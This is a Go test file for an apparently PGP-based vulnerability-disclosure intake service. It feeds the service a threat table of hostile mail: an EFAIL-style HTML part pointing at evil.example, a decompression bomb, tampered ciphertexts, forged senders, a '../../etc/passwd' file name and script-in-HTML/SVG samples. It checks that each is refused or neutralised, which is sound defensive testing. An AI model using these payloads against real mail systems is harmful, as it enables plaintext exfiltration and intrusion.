package intake

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp/packet"
	openpgp "github.com/ProtonMail/go-crypto/openpgp/v2"

	"postern/internal/disclosure"
	"postern/internal/e2e/world"
	"postern/internal/pgp"
)

// outcome is what a case has to look like. Empty fields are not looked at.
type outcome struct {
	encryption disclosure.Encryption
	signature  disclosure.Signature
	part       bool   // the protection holds for a part only
	text       string // in the message
	not        string // nowhere in the message
	attention  string // in the case's; "-": none
	file       string // a file with this label
	title      string // of the case
	from       string // the reporter's address
	key        string // fingerprint of the reporter's key
}

const secret = "Tokens can be guessed."

// elsewhere are the entries that are about more than one mail, each with what
// has to come of it and the tests that see to it.
var elsewhere = map[int]entry{
	25: {"a ciphertext that came before is opened for the team alone, and says in which case it is", []string{"internal/e2e/intake.TestHostile25Replay"}},
	43: {"a sign-only, RSA-1024, SHA-1 or DSA certificate is refused for a distributor, with the reason", []string{"internal/e2e/intake.TestHostile43DistributorsKey", "internal/pgp.TestCertificates"}},
	50: {"smuggled ends, lone CR and LF: refused, nothing stored", []string{"internal/e2e/intake.TestHostile50Smuggling"}},
	52: {"the same mail again goes to its case; the same bytes say where they were", []string{"internal/e2e/intake.TestHostile52SameMailTwice"}},
	53: {"the form: half a message, no script, an upload cut off, 2 GB, two tabs", []string{"internal/e2e/intake.TestHostile53Form", "internal/gate.TestMalformedForm", "internal/gate.TestIdempotency"}},
	54: {"a code nobody has, and one not yet opened, get the same bytes; many are slowed", []string{"internal/e2e/intake.TestHostile54Codes", "internal/gate.TestUnknownAndUnopened", "internal/gate.TestPace", "internal/e2e/abuse.TestT02Codes"}},
	56: {"taken while locked, opened afterwards in order", []string{"internal/e2e/intake.TestHostile56Locked"}},
	57: {"the database is gone: a temporary refusal, nothing half stored", []string{"internal/e2e/intake.TestDatabaseGone", "internal/gate.TestDatabaseGone", "internal/e2e/chaos.TestPostgresKilled", "internal/e2e/chaos.TestDataDiskFull"}},
}

type entry struct {
	want  string
	tests []string // package and name
}

// TestHostileElsewhere: the tests that the table names are there.
func TestHostileElsewhere(t *testing.T) {
	for n, e := range elsewhere {
		for _, name := range e.tests {
			pkg, test, _ := strings.Cut(name, ".")
			files, err := filepath.Glob(filepath.Join("../../..", pkg, "*_test.go"))
			must(t, err)
			found := false
			for _, file := range files {
				b, err := os.ReadFile(file)
				must(t, err)
				found = found || bytes.Contains(b, []byte("\nfunc "+test+"(t *testing.T) {"))
			}
			if !found {
				t.Errorf("entry %d, %s: there is no %s", n, e.want, name)
			}
		}
	}
}

// TestHostileIntake sends each entry of the threat table (threats.md §3) that
// is about one message through the listener, and looks at the case it became,
// and at what that cost. The packages pgp and mail hold the finer variants;
// entries 37 and 45 have their large forms in mail and in TestWorstInputs.
func TestHostileIntake(t *testing.T) {
	w := newTeam(t, world.Config{})
	now := w.DB.Now()
	retired := person(t, now, "Lantern of old", "old@lantern.example")
	w.retire(retired)
	c := w.Cert
	finn := "Finn <finn@finder.example>"
	alice, stranger := person(t, now, "Alice", "alice@finder.example"), person(t, now, "Somebody", "else@example.org")
	private, err := stranger.Export([]byte("a passphrase of no use"))
	must(t, err)
	armored := func(b []byte) []byte { return armor(t, "PGP MESSAGE", b) }
	sealed := func(inner []byte) []byte { return joined(pkesk(t, c, false), seipd(t, inner)) }
	inline := func(b []byte) []byte { return plain(finn, "...", string(armored(b))) }
	ok := func() []byte { return w.encrypt([]byte(secret+"\n"), nil) } // never the same twice
	bin := sealed(words(secret))
	long := sealed(words(strings.Repeat(secret+" ", 300)))
	tampered := bytes.Clone(long)
	tampered[len(tampered)-2000] ^= 0x40
	nested, bomb, deep := words(secret), deflated(t, deflated(t, deflated(t, words(strings.Repeat("\x00", 80<<20))))), words(secret)
	for range 200 {
		nested = deflated(t, nested)
	}
	for range 5 {
		deep = sealed(deep)
	}
	mimeText := crlf(part("text/plain; charset=utf-8", secret+"\n"))
	mixed := func(parts ...string) []byte { return multipart(finn, "...", "multipart/mixed", parts...) }
	attachment := func(name, content string) string {
		return "Content-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"" + name + "\"\n\n" + content
	}
	clear, err := pgp.ClearSign([]byte(secret+"\n"), alice, now)
	must(t, err)
	signedFuture, err := pgp.Prepare([]byte(secret), alice, now.AddDate(0, 0, 2))
	must(t, err)
	var future bytes.Buffer
	must(t, signedFuture.Encrypt(&future, []*pgp.Certificate{c}, now))
	aliceKey := string(alice.Certificate().Armored())
	withKey := func(key string, more ...string) []byte {
		return mixed(append([]string{part("text/plain", secret), part("application/pgp-keys", key)}, more...)...)
	}
	expiring, stolen := newEntity(t, now.AddDate(0, 0, -10), 5*24*time.Hour), newEntity(t, now.AddDate(0, 0, -10), 0)
	must(t, stolen.Revoke(packet.KeyCompromised, "stolen", &packet.Config{Time: func() time.Time { return now.AddDate(0, 0, -1) }}))
	signedInside := func(e *openpgp.Entity, at time.Time) []byte {
		var key bytes.Buffer
		must(t, e.Serialize(&key))
		text := crlf("Content-Type: multipart/mixed; boundary=\"=_k\"\n\n" + body("=_k", part("text/plain", secret), part("application/pgp-keys", string(armor(t, "PGP PUBLIC KEY BLOCK", key.Bytes())))))
		return pgpMIME(finn, "...", armored(sealed(signedPackets(t, e, at, text))))
	}
	clearText := outcome{encryption: disclosure.OnArrival, signature: disclosure.Unsigned, text: secret}
	opened := outcome{encryption: disclosure.ToCurrentKey, signature: disclosure.Unsigned, text: secret, attention: "-"}
	kept := outcome{encryption: disclosure.Unopened, not: secret, attention: " "}
	attended := func(o outcome, why string) outcome { o.attention = why; return o }
	partly := func(o outcome) outcome { o.part = true; return o }
	signed := func(o outcome, s disclosure.Signature) outcome { o.signature = s; return o }
	filed := func(o outcome, f string) outcome { o.file = f; return o }

	tests := []struct {
		n    int
		name string
		raw  []byte
		want outcome
	}{
		{1, "plain text", plain(finn, "hello", secret+"\n"), attended(clearText, "-")},
		{2, "to a retired key", pgpMIME(finn, "...", w.encrypt(mimeText, nil, retired.Certificate())), outcome{encryption: disclosure.ToRetiredKey, signature: disclosure.Unsigned, text: secret, attention: "-"}},
		{3, "to a member's own key", inline(joined(pkesk(t, alice.Certificate(), false), seipd(t, words(secret)))), attended(kept, "do not hold")},
		{4, "to an unknown key", pgpMIME(finn, "...", w.encrypt([]byte(secret), nil, stranger.Certificate())), attended(kept, "do not hold")},
		{5, "passphrase only: TestHostile05Passphrase opens it", inline(joined(skesk(t), seipd(t, words(secret)))), attended(kept, "passphrase")},
		{6, "passphrase, too", inline(joined(skesk(t), bin)), opened},
		{7, "hidden recipients", inline(joined(pkesk(t, stranger.Certificate(), true), pkesk(t, c, true), seipd(t, words(secret)))), opened},
		{8, "3000 key packets", inline(joined(bytes.Repeat(pkesk(t, stranger.Certificate(), true), 3000), bin)), kept},
		{9, "no integrity", inline(joined(pkesk(t, c, false), pkt(9, make([]byte, 200)))), attended(kept, "integrity")},
		{10, "tampered", inline(tampered), attended(kept, "damaged")},
		{11, "truncated", inline(long[:len(long)-100]), attended(kept, "damaged")},
		{12, "garbage after", inline(append(bytes.Clone(bin), "garbage"...)), attended(opened, "follows the encrypted message")},
		{12, "garbage after, and tampered", inline(append(bytes.Clone(tampered), "garbage"...)), attended(kept, "damaged")},
		{13, "bomb", inline(sealed(bomb)), attended(kept, "large")},
		{14, "200 layers of compression", inline(sealed(nested)), attended(kept, "complicated")},
		{15, "two literals", inline(sealed(joined(words(secret), words(secret)))), kept},
		{16, "literal in armor", inline(words(secret)), clearText},
		{17, "signature without issuer", inline(sealed(joined(pkt(2, []byte{4, 0, 1, 8, 0, 6, 5, 2, 0x60, 0, 0, 0, 0, 0, 0, 0, 0, 1, 1}), words(secret)))), signed(opened, disclosure.SignedUnchecked)},
		{18, "unknown AEAD", inline(joined(pkesk(t, c, false), pkt(18, append([]byte{2, 9, 77, 6}, make([]byte, 96)...)))), attended(kept, "cannot read")},
		{19, "signed by an unknown key", inline2(t, w, finn, alice), signed(opened, disclosure.SignedUnchecked)},
		{19, "signed by a key that came along", pgpMIME(finn, "...", w.encrypt(crlf("Content-Type: multipart/mixed; boundary=\"=_k\"\n\n"+body("=_k", part("text/plain", secret), part("application/pgp-keys", aliceKey))), alice)), signed(opened, disclosure.SignedUnknown)},
		{20, "signed before the key expired", signedInside(expiring, now.AddDate(0, 0, -8)), signed(opened, disclosure.SignedUnknown)},
		{20, "signed after the key expired", signedInside(expiring, now.Add(-time.Minute)), signed(opened, disclosure.SignedInvalid)},
		{20, "signed by a stolen key", signedInside(stolen, now.AddDate(0, 0, -8)), signed(opened, disclosure.SignedInvalid)},
		{21, "key of one, From of another", pgpMIME("Victim <victim@example.org>", "...", w.encrypt(crlf("Content-Type: multipart/mixed; boundary=\"=_k\"\n\n"+body("=_k", part("text/plain", secret), part("application/pgp-keys", aliceKey))), alice)), signed(opened, disclosure.SignedUnknown)},
		{22, "two From", append([]byte("From: \"team@lantern.example\" <x@evil.example>\r\n"), plain(finn, "x", secret)...), clearText},
		{22, "empty From", plain("", "x", secret), clearText},
		{23, "one part encrypted", mixed(part("text/plain", "unprotected words"), part("text/plain", string(ok()))), partly(outcome{text: secret})},
		{24, "EFAIL", mixed(part("text/html", "<img src=\"http://evil.example/"), part("text/plain", string(ok())), part("text/html", "\">")), partly(outcome{text: secret, not: "<img"})},
		{26, "text around a signed one", plain(finn, "...", "before\n"+string(clear)+"after\n"), partly(outcome{text: secret})},
		{27, "forged Hash header", plain(finn, "...", strings.Replace(string(clear), "Hash: SHA512", "Hash: SHA256", 1)), outcome{encryption: disclosure.OnArrival}},
		{28, "inline in text", plain(finn, "...", "see below\n\n"+string(ok())+"\nbye\n"), partly(outcome{encryption: disclosure.ToCurrentKey, text: secret})},
		{29, "inline twice in alternatives", multipart(finn, "...", "multipart/alternative", part("text/plain", string(ok())), part("text/html", "<pre>"+string(ok())+"</pre>")), outcome{encryption: disclosure.ToCurrentKey, text: secret}},
		{30, "encrypted files beside", mixed(part("text/plain", string(ok())), attachment("poc.py.asc", string(ok()))), filed(opened, "poc.py")},
		{31, "mangled by Exchange", mixed(part("text/plain", "\n"), part("application/pgp-encrypted", "Version: 1\n"), part("application/octet-stream", string(w.encrypt(mimeText, nil)))), opened},
		{32, "one part", multipart(finn, "...", "multipart/encrypted", part("application/octet-stream", string(ok()))), opened},
		{32, "no armor", multipart(finn, "...", "multipart/encrypted", part("application/pgp-encrypted", "Version: 1\n"), part("text/plain", "nothing")), outcome{attention: " "}},
		{33, "armor instead of MIME", pgpMIME(finn, "...", w.encrypt(ok(), nil)), opened},
		{34, "encrypted twice", inline(sealed(bin)), opened},
		{34, "encrypted six times", inline(sealed(deep)), kept},
		{35, "phony subject inside", pgpMIME(finn, "...", w.encrypt(crlf("Content-Type: multipart/mixed; boundary=\"=_k\"\n\n"+body("=_k", "Content-Type: text/plain; protected-headers=\"v1\"\nSubject: phony\n\n"+secret)), nil)), outcome{encryption: disclosure.ToCurrentKey, text: secret, not: "phony"}},
		{36, "another From inside", pgpMIME(finn, "...", w.encrypt(crlf("Content-Type: text/plain; protected-headers=\"v1\"; hp=\"cipher\"\nFrom: ceo@example.org\nSubject: real\n\n"+secret), nil)), outcome{encryption: disclosure.ToCurrentKey, signature: disclosure.Unsigned, text: secret, not: "ceo@", title: "real", from: "finn@finder.example", attention: "says it is from another address inside"}},
		{37, "quoted armor", plain(finn, "...", "> "+strings.ReplaceAll(strings.TrimSpace(string(ok())), "\n", "\n> ")+"\n"), outcome{encryption: disclosure.ToCurrentKey, text: secret}},
		{37, "no checksum, indented", plain(finn, "...", "  "+strings.ReplaceAll(strings.TrimSpace(string(ok())), "\n", "\n  ")+"\n"), outcome{encryption: disclosure.ToCurrentKey, text: secret}},
		{38, "words of armor", plain(finn, "x", "how do I send\n-----BEGIN PGP MESSAGE-----\nto you? "+secret+"\n"), clearText},
		{39, "a public key", plain(finn, "my key", aliceKey), outcome{encryption: disclosure.OnArrival, file: "key.asc"}},
		{40, "a private key", plain(finn, "help", string(private)), outcome{not: "PRIVATE KEY", attention: "private key"}},
		{41, "a key with many user ids", withKey(string(armor(t, "PGP PUBLIC KEY BLOCK", manyUsers(t, alice)))), outcome{encryption: disclosure.OnArrival, text: secret}},
		{42, "a user id of control signs", withKey(string(armor(t, "PGP PUBLIC KEY BLOCK", append(alice.Certificate().Binary(), pkt(13, []byte("Eve\u202e\n<b>"+strings.Repeat("x", 200<<10)))...)))), outcome{encryption: disclosure.OnArrival, signature: disclosure.Unsigned, text: secret, not: "<b>", attention: "-", key: alice.Certificate().Fingerprint(), file: "key.asc"}},
		{44, "charset that lies", crlf(head(finn, "x") + "Content-Type: text/plain; charset=utf-7\n\n" + secret + " a\xffb\x00c"), clearText},
		{45, "base64 that is none", crlf(head(finn, "x") + "Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\n!!!!"), outcome{encryption: disclosure.OnArrival}},
		{45, "no boundary", crlf(head(finn, "x") + "Content-Type: multipart/mixed\n\n" + secret), attended(clearText, "parts")},
		{45, "deep nesting", crlf(head(finn, "x") + deepMIME(1000)), outcome{attention: "deeper"}},
		{45, "many parts", crlf(head(finn, "x") + "Content-Type: multipart/mixed; boundary=b\n\n" + strings.Repeat("--b\n\nx\n", 100_000)), outcome{attention: "more parts"}},
		{46, "enclosed message", mixed(part("message/rfc822", "From: b@x.example\nSubject: fwd\n\n"+secret)), clearText},
		{46, "S/MIME", crlf(head(finn, "x") + "Content-Type: application/pkcs7-mime; name=smime.p7m\n\nMIAG"), outcome{attention: "S/MIME", file: "smime.p7m"}},
		{46, "winmail.dat", mixed(part("text/plain", secret), part(`application/ms-tnef; name="winmail.dat"`, "x")), outcome{text: secret, attention: "winmail.dat"}},
		{47, "path as a name", mixed(part("text/plain", secret), attachment("../../etc/passwd", "x")), filed(clearText, "passwd")},
		{47, "device as a name", mixed(part("text/plain", secret), attachment("CON", "x")), filed(clearText, "_CON")},
		{48, "script in SVG and HTML", mixed(part("text/html", "<script>steal()</script><p>"+secret+"</p>"), "Content-Type: image/svg+xml\nContent-Disposition: attachment; filename=a.svg\n\n<svg onload=steal()>"), filed(outcome{text: secret, not: "steal"}, "a.svg")},
		{49, "absence note", plain(finn, "Out of office", secret, "Auto-Submitted: auto-replied\n"), clearText},
		{49, "stray DSN", dsn("mailer-daemon@elsewhere.example", address, "<unknown@elsewhere.example>"), outcome{encryption: disclosure.OnArrival}},
		{51, "forged thread", plain(finn, "Re: x", secret, "In-Reply-To: <m1@finder.example>\nReferences: <m1@finder.example>\n"), clearText},
		{55, "signed in two days", plain(finn, "...", future.String()), outcome{encryption: disclosure.ToCurrentKey, text: secret, signature: disclosure.SignedUnchecked}},
		{58, "quotes an embargoed notice", plain(finn, "Fwd: pre-notification", secret+"\n\n> TLP:AMBER notice to distributors\n"), clearText},
	}
	seen, worst, slowest := map[int]bool{}, cost{}, ""
	for _, tt := range tests {
		seen[tt.n] = true
		name := fmt.Sprintf("%02d %s", tt.n, tt.name)
		t.Run(name, func(t *testing.T) {
			began := time.Now()
			c := measure(t, func() {
				must(t, w.try("finn@finder.example", address, tt.raw))
				w.Settle()
			})
			f := w.newest()
			if took := time.Since(began); took > 20*time.Second {
				t.Errorf("taking and opening it took %s", took)
			}
			if c.heap > mostHeap || c.cpu > mostTime*slack {
				t.Errorf("it cost %s, want %d MiB and %s at most", c, mostHeap>>20, mostTime)
			}
			if c.heap > worst.heap {
				worst, slowest = c, name
			}
			tt.want.check(t, w, f)
			if got := w.original(f.arrival); !bytes.Equal(bytes.TrimSuffix(got, []byte("\r\n")), bytes.TrimSuffix(tt.raw, []byte("\r\n"))) {
				t.Errorf("the original has %d bytes, %d were sent", len(got), len(tt.raw))
			}
		})
	}
	t.Logf("%d variants of %d entries; the dearest is %q with %s", len(tests), len(seen), slowest, worst)
	for n := 1; n <= 58; n++ {
		if e, there := elsewhere[n]; seen[n] == there {
			t.Errorf("entry %d has %d tests here, and elsewhere %q; want one of both", n, btoi(seen[n]), e)
		}
	}
}

func btoi(b bool) int {
	if b {
		return 1
	}
	return 0
}

func (o outcome) check(t *testing.T, w *team, f found) {
	t.Helper()
	if f.c == nil || len(f.thread) != 1 {
		t.Fatalf("it made case %q with %d messages (opened: %v); want a case of its own", f.id, len(f.thread), f.opened)
	}
	m := f.message(t)
	p := m.Protection
	if o.encryption != "" && p.Encryption != o.encryption || o.signature != "" && p.Signature != o.signature || p.Signature == disclosure.SignedKnown {
		t.Errorf("protection is %+v, want %s, %s, and never a known signer", p, o.encryption, o.signature)
	}
	if o.part && p.Integrity != disclosure.PartOnly {
		t.Errorf("protection is %+v, want a part only", p)
	}
	if !strings.Contains(m.Text, o.text) {
		t.Errorf("text is %.300q, want %q in it", m.Text, o.text)
	}
	if o.not != "" && (strings.Contains(m.Text, o.not) || strings.Contains(f.c.Title, o.not)) {
		t.Errorf("%q is shown: %.300q, title %q", o.not, m.Text, f.c.Title)
	}
	if o.attention == "-" && f.c.Attention != "" || o.attention != "-" && !strings.Contains(f.c.Attention, o.attention) {
		t.Errorf("attention is %q, want %q", f.c.Attention, o.attention)
	}
	if o.title != "" && f.c.Title != o.title {
		t.Errorf("the title is %q, want %q", f.c.Title, o.title)
	}
	if r := f.c.Reporters[0]; o.from != "" && r.Address != o.from {
		t.Errorf("the reporter's address is %q, want %q", r.Address, o.from)
	}
	if o.key != "" {
		if certs, err := pgp.ParseCertificates(f.c.Reporters[0].Key); err != nil || certs[0].Fingerprint() != o.key {
			t.Errorf("the reporter's key is not the one of fingerprint %s (%v)", o.key, err)
		}
	}
	has := o.file == ""
	var labels []string
	for _, x := range f.c.Files {
		labels = append(labels, x.Label)
		has = has || x.Label == o.file
	}
	if !has {
		t.Errorf("files are %q, want %q among them", labels, o.file)
	}
}
